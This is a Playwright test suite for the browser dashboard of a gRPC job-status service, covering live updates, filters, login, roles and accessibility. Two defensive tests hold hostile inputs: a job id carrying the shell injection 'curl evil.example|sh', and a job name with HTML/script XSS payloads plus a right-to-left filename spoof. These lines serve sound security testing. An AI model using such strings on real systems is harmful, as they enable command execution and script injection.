"""The board in a real browser: Chromium, driven by Playwright."""

from __future__ import annotations

import itertools
import random
import re
import shlex
import shutil
import ssl
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from importlib import resources
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from axe_playwright_python.sync_playwright import Axe
from jobstatus.v1 import job_status_pb2 as pb
from playwright.sync_api import Locator, Page, expect, sync_playwright

from jobstatus_grpc.auth import Role
from tests.support.certificates import Authority
from tests.support.servers import TRANSPORT, ServerProcess
from tests.support.service import Service
from tests.support.web import Web

pytestmark = pytest.mark.slow  # a browser takes a second to open a page

MAX_BYTES = 60_000
SIZES = {"phone": {"width": 400, "height": 800}, "desk": {"width": 1600, "height": 900}}


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    """Chromium. Of this module: while Playwright runs, no test in this thread can use asyncio."""
    path = shutil.which("chromium")
    if path is None:
        pytest.skip("Chromium is not installed: make browser")
    with sync_playwright() as started:
        running = started.chromium.launch(executable_path=path, args=["--no-sandbox"])
        yield running
        running.close()


@pytest.fixture
def open_page(browser) -> Iterator[Callable[..., Page]]:
    """Open a page; at the end of the test none may have had an error, except responses that are errors."""
    errors: list[str] = []
    contexts = []

    def open_at(url: str, *, size: str = "desk", **settings: Any) -> Page:
        context = browser.new_context(viewport=SIZES[size], **settings)
        contexts.append(context)
        page = context.new_page()
        page.on("pageerror", lambda error: errors.append(str(error)))
        page.on("console", lambda line: errors.append(line.text) if line.type in ("error", "warning") else None)
        page.goto(url)
        return page

    yield open_at
    for context in contexts:
        context.close()
    assert [text for text in errors if not text.startswith("Failed to load resource")] == []


@pytest.fixture
def board(serve_web, open_page) -> tuple[Service, Page]:
    """A server of the test's own, and a page with its jobs."""
    service, web = serve_web()
    page = open_page(web.url)
    expect_live(page)
    return service, page


def expect_live(page: Page) -> None:
    expect(page.locator("#connection")).to_have_text("live")


def row(page: Page, job_id: str) -> Locator:
    return page.locator(f'tr[data-id="{job_id}"]')


def expect_shown(page: Page, *job_ids: str) -> None:
    rows = page.locator("#rows tr:visible")
    expect(rows).to_have_count(len(job_ids))
    for number, job_id in enumerate(job_ids):
        expect(rows.nth(number)).to_have_attribute("data-id", job_id)


def create(service: Service, job_id: str, **fields: Any) -> None:
    service.stub.CreateJob(pb.CreateJobRequest(job=pb.JobStatus(id=job_id, **fields)))


def update(service: Service, job_id: str, **fields: Any) -> None:
    service.stub.UpdateJob(pb.UpdateJobRequest(job=pb.JobStatus(id=job_id, **fields)))


def test_all_files_together_are_small():
    folder = resources.files("jobstatus_grpc.web.board")
    assert sum(len(file.read_bytes()) for file in folder.iterdir() if file.name.count(".") == 1) < MAX_BYTES


def test_a_change_is_shown_while_it_happens(board):
    service, page = board
    create(service, "a", name="backup", state=pb.JOB_STATE_IN_PROGRESS, progress=10)
    expect(row(page, "a").locator(".state")).to_have_text("in progress")
    update(service, "a", progress=42.5, reason="page 17")
    expect(row(page, "a").locator(".percent")).to_have_text("42.5 %")
    expect(row(page, "a").locator(".reason")).to_have_text("page 17")
    update(service, "a", state=pb.JOB_STATE_FAILED, error=pb.JobError(message="disk full"))
    expect(row(page, "a").locator(".state")).to_have_text("failed")


def test_jobs_are_listed_newest_first_and_a_deleted_one_leaves(board):
    service, page = board
    for job_id in "abc":
        create(service, job_id, state=pb.JOB_STATE_IN_PROGRESS)
    expect_shown(page, "c", "b", "a")
    update(service, "b", state=pb.JOB_STATE_SUCCEEDED)
    service.stub.DeleteJob(pb.DeleteJobRequest(id="b"))
    expect(row(page, "b")).to_have_count(0)


def test_a_stalled_job_and_a_cancel_request_are_marked(board):
    service, page = board
    create(service, "a", state=pb.JOB_STATE_IN_PROGRESS, heartbeat_timeout={"seconds": 1})
    service.stub.CancelJob(pb.CancelJobRequest(id="a"))
    expect(row(page, "a").locator(".mark")).to_have_text(["stalled", "cancel requested"])


def test_counts_follow_the_states(board):
    service, page = board
    create(service, "a")
    create(service, "b")
    expect(page.locator('#states [data-state="pending"] b')).to_have_text("2")
    update(service, "b", state=pb.JOB_STATE_SUCCEEDED)
    expect(page.locator('#states [data-state="pending"] b')).to_have_text("1")
    expect(page.locator("#summary")).to_have_text("2 of 2 jobs")


def test_filters_are_kept_in_the_address(board, open_page):
    service, page = board
    create(service, "a", name="backup", labels={"team": "core=1"}, state=pb.JOB_STATE_IN_PROGRESS)
    create(service, "b", name="backup", labels={"team": "core=1"})
    create(service, "c", name="import", labels={"team": "ops"})
    row(page, "a").get_by_text("team=core=1").click()
    expect(page.locator("#rows tr")).to_have_count(2)
    page.get_by_role("button", name="pending").click()
    page.get_by_label("Find in names").fill("BACK")
    page.get_by_label("Find in names").press("Enter")
    assert parse_qs(urlsplit(page.url).query) == {"label": ["team=core=1"], "state": ["pending"], "q": ["BACK"]}
    other = open_page(page.url)
    expect_live(other)
    expect(other.locator("#summary")).to_have_text("1 of 2 jobs")
    expect_shown(other, "b")


def test_back_and_a_chosen_label_lead_to_the_filter_before(board):
    service, page = board
    create(service, "a", name="backup", labels={"team": "core"})
    create(service, "b", name="import")
    row(page, "a").get_by_text("team=core").click()
    expect(page.locator("#rows tr")).to_have_count(1)
    page.go_back()
    expect(page.locator("#rows tr")).to_have_count(2)
    page.go_forward()
    page.get_by_role("button", name="Remove the filter by label team=core").click()
    expect(page.locator("#rows tr")).to_have_count(2)


def test_a_prefix_and_a_parent_are_filters_of_the_service(board):
    service, page = board
    create(service, "a", name="backup")
    create(service, "b", name="part of backup", parent_id="a")
    page.get_by_label("Name begins with").fill("backup")
    page.get_by_label("Name begins with").press("Enter")
    expect(page.locator("#summary")).to_have_text("1 of 1 jobs")
    expect_shown(page, "a")
    page.get_by_label("Name begins with").fill("")
    page.get_by_label("Parent id").fill("a")
    page.get_by_label("Parent id").press("Enter")
    expect(row(page, "b")).to_be_visible()
    expect_shown(page, "b")


def test_the_page_of_a_job_has_its_error_result_history_children_and_the_lines_to_follow_it(board):
    service, page = board
    create(service, "-a", name="backup", state=pb.JOB_STATE_IN_PROGRESS, result={"rows": 3})
    create(service, "child", name="part", parent_id="-a")
    update(service, "-a", state=pb.JOB_STATE_FAILED, error=pb.JobError(message="disk full", reason="DISK"))
    row(page, "-a").get_by_role("link").click()
    expect(page.locator("h2#job-name")).to_have_text("backup")
    expect(page.locator("#job-error pre")).to_have_text("disk full\nreason: DISK\ncode: 2")
    expect(page.locator("#job-result pre")).to_have_text('{\n  "rows": 3\n}')
    expect(page.locator("#history b")).to_have_text(["in progress", "in progress → failed"])
    expect(page.locator("#children")).to_have_text("part pending")


def test_the_page_of_a_job_shows_its_children_live_and_their_numbers(board):
    service, page = board
    create(service, "a", name="backup", state=pb.JOB_STATE_IN_PROGRESS)
    row(page, "a").get_by_role("link").click()
    expect(page.locator("#job-state")).to_have_text("in progress")
    create(service, "b", name="part 1", parent_id="a", state=pb.JOB_STATE_IN_PROGRESS)
    expect(page.locator("#children li")).to_have_text(["part 1 in progress"])
    update(service, "b", progress=30)
    expect(page.locator("#children .percent")).to_have_text("30 %")
    create(service, "c", name="part 2", parent_id="a")
    expect(page.locator('[data-name="Children"] dd')).to_have_text("1 pending, 1 in progress (15 %)")
    update(service, "b", state=pb.JOB_STATE_SUCCEEDED)
    expect(page.locator("#children li")).to_have_text(["part 2 pending", "part 1 succeeded"])


def test_a_job_with_children_may_be_cancelled_with_all_jobs_below_it(board):
    service, page = board
    create(service, "a", state=pb.JOB_STATE_IN_PROGRESS)
    create(service, "b", parent_id="a")
    row(page, "a").get_by_role("link").click()
    page.get_by_role("button", name="Cancel job").click()
    page.get_by_label("Cancel all jobs below it too").check()
    page.get_by_role("button", name="Cancel the job").click()
    expect(page.locator("#children")).to_have_text("b cancelled")
    create(service, "alone")
    page.goto(f"{page.url.partition('?')[0]}?job=alone")
    page.get_by_role("button", name="Cancel job").click()
    expect(page.get_by_label("Cancel all jobs below it too")).to_be_hidden()


def test_the_lines_to_follow_a_job_run(board):
    service, page = board
    create(service, "-a", state=pb.JOB_STATE_IN_PROGRESS)
    row(page, "-a").get_by_role("link").click()
    expect(page.locator("#follow")).to_contain_text("grpcurl")
    lines = page.locator("#follow").inner_text().splitlines()
    update(service, "-a", state=pb.JOB_STATE_SUCCEEDED)
    assert [shlex.split(line)[0] for line in lines] == ["jobstatus", "grpcurl"]
    for line in lines:
        program, *arguments = shlex.split(line)
        command = [str(Path(sys.executable).with_name(program)), *arguments]
        assert "succeeded" in subprocess.check_output(command, text=True, timeout=30).lower()


def test_the_page_of_a_job_follows_it_to_its_end(board):
    service, page = board
    create(service, "a", state=pb.JOB_STATE_IN_PROGRESS)
    row(page, "a").get_by_role("link").click()
    update(service, "a", progress=70)
    expect(page.locator("#job-state .percent")).to_have_text("70 %")
    update(service, "a", state=pb.JOB_STATE_SUCCEEDED)
    expect(page.locator("#job-state .state")).to_have_text("succeeded")
    expect(page.locator("#history li")).to_have_count(2)
    expect(page.locator("#connection")).to_have_text("ended")


def test_an_unknown_job_is_said_to_be_unknown(board):
    _, page = board
    page.goto(f"{page.url}?job=never")
    expect(page.get_by_role("alert").first).to_have_text("no job has the id 'never'")


def test_an_id_in_an_address_is_no_line_for_a_shell_unless_a_job_has_it(board):
    _, page = board
    page.goto(f"{page.url}?job=a%3Bcurl+evil.example|sh")
    expect(page.locator("#connection")).to_have_text("stopped")
    expect(page.get_by_role("heading", name="Follow it elsewhere")).to_be_hidden()
    assert page.locator("#follow").text_content() == ""


@pytest.mark.skipif(TRANSPORT == "native", reason="the native transport has no TLS")
def test_the_lines_to_follow_a_job_have_tls_and_the_token(serve_web, open_page, auth, tmp_path):
    token, authority = auth.admit("olga"), Authority()
    cert, key = authority.issue().write(tmp_path, "server")
    service, plain = serve_web("--auth", str(auth.path), "--tls-cert", cert, "--tls-key", key)
    web = Web(plain.url, token=token, tls=ssl.create_default_context(cafile=authority.write(tmp_path)))
    web.call("CreateJob", {"job": {"id": "a"}})
    page = open_page(f"{web.url}/?job=a", ignore_https_errors=True)
    page.get_by_label("Token").fill(token)
    page.get_by_role("button", name="Log in").click()
    expect(page.locator("#follow")).to_contain_text(f"jobstatus watch --address grpcs://{service.address} a")
    grpcurl = """grpcurl -H "authorization: Bearer $JOBSTATUS_TOKEN" -d '{"id":"a"}'"""
    expect(page.locator("#follow")).to_contain_text(f"{grpcurl} {service.address} ")


def test_the_page_of_a_job_stays_when_the_link_to_its_content_is_used(board):
    service, page = board
    create(service, "a", name="backup", state=pb.JOB_STATE_IN_PROGRESS)
    page.goto(f"{page.url}?job=a")
    expect(page.locator("#history li")).to_have_count(1)
    page.locator("a.skip").focus()
    page.keyboard.press("Enter")
    expect(page).to_have_url(re.compile("#main$"))
    expect(page.locator("#job-state .state")).to_have_text("in progress")
    expect(page.locator("#history li")).to_have_count(1)


def test_the_history_has_a_cancel_request_at_once(board):
    service, page = board
    create(service, "a", state=pb.JOB_STATE_IN_PROGRESS)
    page.goto(f"{page.url}?job=a")
    expect(page.locator("#history li")).to_have_count(1)
    service.stub.CancelJob(pb.CancelJobRequest(id="a", reason="no longer needed"))
    expect(page.locator("#history li")).to_have_count(2)
    expect(page.locator("#history li").last).to_contain_text("no longer needed")


def test_a_button_keeps_the_focus_while_its_job_changes(board):
    service, page = board
    create(service, "a", state=pb.JOB_STATE_IN_PROGRESS, labels={"team": "core"})
    page.goto(f"{page.url}?job=a")
    page.get_by_role("button", name="Filter by label team=core").focus()
    update(service, "a", progress=50, reason="half")
    expect(page.locator("#job-fields")).to_contain_text("half")
    expect(page.get_by_role("button", name="Filter by label team=core")).to_be_focused()


def test_times_are_by_the_clock_of_the_server(board, open_page):
    service, page = board
    create(service, "a", state=pb.JOB_STATE_IN_PROGRESS, estimated_completion={"seconds": int(time.time()) + 50})
    page.add_init_script("const real = Date.now; Date.now = () => real() + 6 * 3600 * 1000;")
    page.reload()
    expect(row(page, "a").locator("td").nth(5)).to_have_text(re.compile(r"^\d+ s$"))
    expect(row(page, "a").locator("td").nth(3)).to_have_text(re.compile(r"^[1-5]\d s$"))
    row(page, "a").get_by_role("link").click()
    expect(page.locator('#job-fields [data-name="Created"]')).to_contain_text(re.compile(r"\(\d+ s ago\)"))


def test_jobs_of_one_second_are_in_the_order_of_their_creation(board):
    _, page = board
    times = ["00.000001Z", "00Z"]
    jobs = [{"id": each, "createdAt": f"2026-01-01T00:00:{each}", "revision": "1"} for each in times]
    page.route("**/ListJobs", lambda route: route.fulfill(json={"jobs": jobs, "resumeToken": ""}))
    page.route("**/WatchJobs", lambda route: route.abort())
    page.reload()
    expect(page.locator("#rows tr")).to_have_count(2)
    expect_shown(page, *times)


def test_a_page_in_the_background_keeps_no_more_jobs_than_one_in_front(board):
    service, page = board
    page.add_init_script("window.requestAnimationFrame = () => 1;")
    page.reload()
    expect_live(page)
    for start in range(0, 4000, 500):
        jobs = (pb.JobStatus(id=f"{n}", state=pb.JOB_STATE_IN_PROGRESS) for n in range(start, start + 500))
        updates = [pb.UpdateJobRequest(job=job, allow_missing=True) for job in jobs]
        service.stub.BatchUpdateJobs(pb.BatchUpdateJobsRequest(updates=updates))
    expect(page.locator("#rows tr")).to_have_count(2000)


def test_a_filter_that_is_entered_is_one_step_in_the_history_of_the_browser(board):
    _, page = board
    before = page.evaluate("history.length")
    page.get_by_label("Name begins with").fill("backup")
    page.get_by_label("Name begins with").press("Enter")
    expect(page).to_have_url(re.compile("name=backup"))
    assert page.evaluate("history.length") == before + 1


def test_the_last_of_two_values_of_a_label_is_the_filter(board):
    service, page = board
    create(service, "a", labels={"team": "core"})
    create(service, "b", labels={"team": "ops"})
    page.goto(f"{page.url}?label=team=core&label=team=ops")
    expect(page.locator("#chosen li")).to_have_text(["team=ops ×"])
    expect(row(page, "b")).to_be_visible()
    expect_shown(page, "b")


def test_a_job_is_cancelled_after_a_confirmation_and_deleted_after_another(board):
    service, page = board
    create(service, "a", name="backup")
    row(page, "a").get_by_role("link").click()
    page.get_by_role("button", name="Cancel job").click()
    page.get_by_role("button", name="Keep it").click()
    assert service.get("a").state == pb.JOB_STATE_PENDING
    page.get_by_role("button", name="Cancel job").click()
    page.get_by_role("button", name="Cancel the job").click()
    expect(page.locator("#job-state .state")).to_have_text("cancelled")
    page.get_by_role("button", name="Delete job").click()
    page.get_by_role("button", name="Delete the job").click()
    expect(page.locator("#summary")).to_have_text("No job matches.")


def test_the_end_of_a_job_is_told_by_a_notification(board):
    service, page = board
    page.add_init_script("""
        window.told = [];
        window.Notification = class { constructor(title, { body }) { window.told.push([title, body]); } };
        window.Notification.requestPermission = async () => "granted";
    """)
    create(service, "a", name="backup", state=pb.JOB_STATE_IN_PROGRESS)
    page.goto(f"{page.url}?job=a")
    page.get_by_role("button", name="Notify me at its end").click()
    expect(page.get_by_role("button", name="Notify me at its end")).to_have_attribute("aria-pressed", "true")
    update(service, "a", state=pb.JOB_STATE_SUCCEEDED, reason="all rows")
    page.wait_for_function("window.told.length > 0")
    assert page.evaluate("window.told") == [["backup", "succeeded all rows"]]


def test_a_page_survives_a_restart_of_the_server(open_page, tmp_path):
    store = f"sqlite:///{tmp_path}/jobs.db"
    with ServerProcess("--http", "127.0.0.1:0", store=store) as process:
        before = Service(process.address, process)
        create(before, "a", state=pb.JOB_STATE_IN_PROGRESS)
        page = open_page(process.http)
        expect_live(page)
        process.kill()
        expect(page.locator("#connection")).to_contain_text("connection lost, next attempt in")
        place = urlsplit(process.http).netloc
    with ServerProcess("--http", place, store=store) as process:
        after = Service(process.address, process)
        update(after, "a", progress=60)
        expect(row(page, "a").locator(".percent")).to_have_text("60 %", timeout=20_000)
        expect_live(page)


def test_a_page_whose_first_calls_fail_tries_again(board, open_page):
    service, page = board
    create(service, "a")
    page.route("**/GetCallerIdentity", lambda route: route.abort(), times=2)
    page.reload()
    expect_live(page)
    expect(row(page, "a")).to_be_visible()


HELD_LISTS = """
    const send = window.fetch;
    window.held = [];
    window.fetch = (...request) => {
        if (!request[0].endsWith("ListJobs")) return send(...request);
        document.documentElement.dataset.held = window.held.length + 1;
        return new Promise((answer, fail) => window.held.push({ send: () => answer(send(...request)), fail }));
    };
"""


def test_no_job_is_said_to_match_only_when_the_list_has_arrived(board):
    _, page = board
    page.add_init_script(HELD_LISTS)
    page.reload()
    expect(page.locator("html")).to_have_attribute("data-held", "1")
    expect(page.locator("#summary")).to_have_text("loading…")
    page.route("**/GetCallerIdentity", lambda route: route.abort())
    page.evaluate("held[0].fail(new TypeError('no connection'))")
    expect(page.locator("#connection")).to_contain_text("connection lost")
    expect(page.locator("#summary")).to_have_text("")
    page.unroute("**/GetCallerIdentity")
    expect(page.locator("html")).to_have_attribute("data-held", "2")
    expect(page.locator("#summary")).to_have_text("loading…")
    page.evaluate("held[1].send()")
    expect(page.locator("#summary")).to_have_text("No job matches.")


def test_a_login_with_a_token_shows_the_jobs_and_a_logout_hides_them(serve_web, open_page, auth):
    token = auth.admit("olga")
    _, web = serve_web("--auth", str(auth.path))
    page = open_page(web.url)
    expect(page.get_by_label("Token")).to_be_focused()
    page.get_by_label("Token").fill("jst_wrong")
    page.get_by_role("button", name="Log in").click()
    expect(page.locator("#login-problem")).to_have_text("This token is not valid.")
    page.get_by_label("Token").fill(token)
    page.get_by_role("button", name="Log in").click()
    expect_live(page)
    expect(page.locator("#caller")).to_have_text("olga, operator in default")
    assert token not in page.content() + page.evaluate("document.cookie") + page.url
    page.get_by_role("button", name="Log out").click()
    expect(page.get_by_label("Token")).to_be_visible()
    expect(page.locator("#rows tr")).to_have_count(0)


def test_a_login_while_the_server_cannot_be_reached_says_so_and_keeps_the_token(serve_web, open_page, auth):
    token = auth.admit("olga")
    _, web = serve_web("--auth", str(auth.path))
    page = open_page(web.url)
    page.route("**/login", lambda route: route.abort(), times=1)
    page.get_by_label("Token").fill(token)
    page.get_by_role("button", name="Log in").click()
    expect(page.locator("#login-problem")).to_have_text("The server cannot be reached.")
    page.get_by_role("button", name="Log in").click()
    expect_live(page)


def test_the_login_stays_open_when_escape_is_pressed(serve_web, open_page, auth):
    auth.admit("olga")
    _, web = serve_web("--auth", str(auth.path))
    page = open_page(web.url)
    expect(page.get_by_label("Token")).to_be_visible()
    for _ in range(3):  # Chromium lets a page prevent the first only.
        page.keyboard.press("Escape")
        expect(page.get_by_label("Token")).to_be_visible()


def test_a_caller_whose_token_is_revoked_sees_no_jobs_any_more(serve_web, open_page, auth):
    token = auth.admit("olga")
    auth.admit("other")
    _, web = serve_web("--auth", str(auth.path))
    web.call("CreateJob", {"job": {"id": "a"}}, authorization=f"Bearer {token}")
    page = open_page(web.url)
    page.get_by_label("Token").fill(token)
    page.get_by_role("button", name="Log in").click()
    expect(row(page, "a")).to_be_visible()
    auth.remove("olga")
    expect(page.get_by_label("Token")).to_be_visible(timeout=30_000)
    expect(page.locator("#rows tr")).to_have_count(0)


def test_a_logout_and_a_login_count_for_all_tabs(serve_web, open_page, auth):
    olga, wanda = auth.admit("olga"), auth.admit("wanda", Role.WATCHER)
    _, web = serve_web("--auth", str(auth.path))
    page = open_page(web.url)
    page.get_by_label("Token").fill(olga)
    page.get_by_role("button", name="Log in").click()
    expect_live(page)
    other = page.context.new_page()
    other.goto(web.url)
    expect(other.locator("#caller")).to_contain_text("olga")
    page.get_by_role("button", name="Log out").click()
    expect(other.get_by_label("Token")).to_be_visible()
    page.get_by_label("Token").fill(wanda)
    page.get_by_role("button", name="Log in").click()
    expect(other.locator("#caller")).to_contain_text("wanda")
    expect(other.get_by_label("Token")).to_be_hidden()


def test_a_caller_who_may_not_cancel_has_no_button_for_it(serve_web, open_page, auth):
    watcher, operator = auth.admit("wanda", Role.WATCHER), auth.admit("olga")
    _, web = serve_web("--auth", str(auth.path))
    web.call("CreateJob", {"job": {"id": "a"}}, authorization=f"Bearer {operator}")
    for token, has_button in ((watcher, 0), (operator, 1)):
        page = open_page(f"{web.url}/?job=a")
        page.get_by_label("Token").fill(token)
        page.get_by_role("button", name="Log in").click()
        expect(page.locator("#history li")).to_have_count(1)
        assert page.get_by_role("button", name="Cancel job").count() == has_button


def test_a_caller_of_one_call_a_second_gets_the_table_and_the_page_of_a_job(serve_web, open_page, auth):
    operator, slow = auth.admit("olga"), auth.admit("sam", more="\n[limits.principals.sam]\ncalls_per_second = 1\n")
    _, web = serve_web("--auth", str(auth.path))
    web.call("CreateJob", {"job": {"id": "a"}}, authorization=f"Bearer {operator}")
    web.call("CreateJob", {"job": {"id": "b", "parentId": "a"}}, authorization=f"Bearer {operator}")
    page = open_page(web.url)
    page.get_by_label("Token").fill(slow)
    page.get_by_role("button", name="Log in").click()
    expect(page.locator("#connection")).to_have_text("live", timeout=20_000)
    row(page, "a").get_by_role("link").click()
    expect(page.locator("#history li")).to_have_count(1, timeout=20_000)
    expect(page.locator("#children")).to_have_text("b pending", timeout=20_000)


def test_a_caller_who_is_limited_to_some_jobs_sees_those_change(serve_web, open_page, auth):
    narrowed = auth.admit("nora", more='only = { labels = { team = "core" } }')
    operator = f"Bearer {auth.admit('olga')}"
    _, web = serve_web("--auth", str(auth.path))
    for job_id, team in (("a", "core"), ("b", "ops")):
        web.call("CreateJob", {"job": {"id": job_id, "labels": {"team": team}}}, authorization=operator)
    page = open_page(web.url)
    page.get_by_label("Token").fill(narrowed)
    page.get_by_role("button", name="Log in").click()
    expect_live(page)
    web.call("UpdateJob", {"job": {"id": "a", "reason": "changed"}}, authorization=operator)
    expect(row(page, "a").locator(".reason")).to_have_text("changed")
    expect_shown(page, "a")


def test_a_name_full_of_html_and_right_to_left_marks_is_text(board):
    service, page = board
    name = '<img src=x onerror="document.title=1">\u202egnp.exe</bdi><script>document.title=1</script>'
    create(service, "a", name=name, labels={"<b>": "<i>\u202e"}, reason="<b>bold</b>", state=pb.JOB_STATE_IN_PROGRESS)
    expect(row(page, "a").get_by_role("link")).to_have_text(name)
    row(page, "a").get_by_role("link").click()
    expect(page.locator("h2#job-name")).to_have_text(name)
    assert page.locator("h2 bdi").count() == 1
    assert page.locator("main img, main b:not(#states b, #history b), main i, main script").count() == 0


@pytest.mark.parametrize("size", SIZES)
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_and_nothing_is_wider_than_the_page(board, open_page, size, scheme):
    service, page = board
    create(service, "a", name="n" * 200, labels={"team": "core" * 15}, state=pb.JOB_STATE_IN_PROGRESS, progress=5)
    service.stub.CancelJob(pb.CancelJobRequest(id="a", reason="c" * 300))
    create(service, "b", name="failed", state=pb.JOB_STATE_IN_PROGRESS, result={"text": "r" * 300})
    update(service, "b", state=pb.JOB_STATE_FAILED, error=pb.JobError(message="disk full " * 50))
    for place in ("", "?job=a", "?job=b", "?state=failed&label=team%3Dcore&q=x"):
        shown = open_page(f"{page.url}{place}", size=size, color_scheme=scheme)
        expect(shown.locator("#connection")).to_have_text("ended" if place.endswith("b") else "live")
        found = Axe().run(shown)
        assert found.violations_count == 0, found.generate_report()
        assert shown.evaluate("document.documentElement.scrollWidth <= innerWidth")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing_in_the_dialogue_that_confirms_a_cancel(board, open_page, scheme):
    service, page = board
    create(service, "a")
    create(service, "a.1", parent_id="a", state=pb.JOB_STATE_IN_PROGRESS, progress=5)
    shown = open_page(f"{page.url}?job=a", size="phone", color_scheme=scheme)
    expect(shown.locator("#children progress")).to_be_visible()
    shown.get_by_role("button", name="Cancel job").click()
    expect(shown.get_by_role("dialog", name="Cancel a?")).to_be_visible()
    found = Axe().run(shown)
    assert found.violations_count == 0, found.generate_report()


def test_in_a_narrow_window_what_belongs_together_is_on_one_line(board, open_page):
    service, page = board
    create(service, "a", state=pb.JOB_STATE_IN_PROGRESS, progress=5)
    create(service, "a.1", parent_id="a")
    phone = open_page(f"{page.url}?job=a", size="phone")
    assert_on_one_line(phone.locator("#job-state progress"), phone.locator("#job-state .percent"))
    expect(phone.locator("#children li")).to_have_count(1)
    phone.get_by_role("button", name="Cancel job").click()
    assert_on_one_line(phone.get_by_role("checkbox"), phone.get_by_role("checkbox").locator(".."))
    table = open_page(page.url, size="phone")
    expect(row(table, "a")).to_be_visible()
    assert_on_one_line(row(table, "a").locator("[data-name=Attempt]"), row(table, "a").locator("[data-name=Age]"))


def assert_on_one_line(first: Locator, second: Locator) -> None:
    """Both are as high as a line, and at the same height."""
    expect(first).to_be_visible()
    boxes = [each.bounding_box() for each in (first, second)]
    assert all(box is not None and box["height"] < 30 for box in boxes), boxes
    middles = [box["y"] + box["height"] / 2 for box in boxes if box is not None]
    assert abs(middles[0] - middles[1]) < 6, boxes


def test_the_keyboard_alone_opens_a_job_and_confirms_a_cancel(board):
    service, page = board
    create(service, "a", name="backup")
    expect(row(page, "a")).to_be_visible()
    for _ in range(40):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.textContent") == "backup":
            break
    page.keyboard.press("Enter")
    expect(page.locator("h2#job-name")).to_be_focused()
    expect(page.get_by_role("button", name="Cancel job")).to_be_visible()
    page.get_by_role("button", name="Cancel job").focus()
    page.keyboard.press("Enter")
    expect(page.get_by_role("button", name="Keep it")).to_be_focused()
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    expect(page.locator("#job-state .state")).to_have_text("cancelled")


FRAMES = """() => new Promise((resolve) => {
    let frames = 0;
    const start = performance.now();
    const count = (now) => {
        frames += 1;
        if (now - start > 2000) resolve((frames / (now - start)) * 1000);
        else requestAnimationFrame(count);
    };
    requestAnimationFrame(count);
})"""


def test_two_thousand_jobs_that_change_two_hundred_times_a_second_are_smooth_and_small(board):
    service, page = board

    def send(updates: list[pb.UpdateJobRequest]) -> None:
        service.stub.BatchUpdateJobs(pb.BatchUpdateJobsRequest(updates=updates))

    for start in range(0, 2000, 500):
        jobs = (pb.JobStatus(id=f"{n}", name=f"job {n}", progress=0) for n in range(start, start + 500))
        send([pb.UpdateJobRequest(job=job, allow_missing=True) for job in jobs])
    expect(page.locator("#rows tr")).to_have_count(2000)
    is_over, chance = threading.Event(), random.Random(1)

    def change() -> None:
        for number in itertools.count(1):
            if is_over.wait(0.05):
                return
            jobs = (pb.JobStatus(id=f"{chance.randrange(2000)}", progress=min(99.9, number / 10)) for _ in range(10))
            send([pb.UpdateJobRequest(job=job) for job in jobs])

    changing = threading.Thread(target=change)
    changing.start()
    try:
        frames_per_second = page.evaluate(FRAMES)
    finally:
        is_over.set()
        changing.join()
    assert frames_per_second >= 30
    session = page.context.new_cdp_session(page)
    assert session.send("Runtime.getHeapUsage")["usedSize"] < 200e6
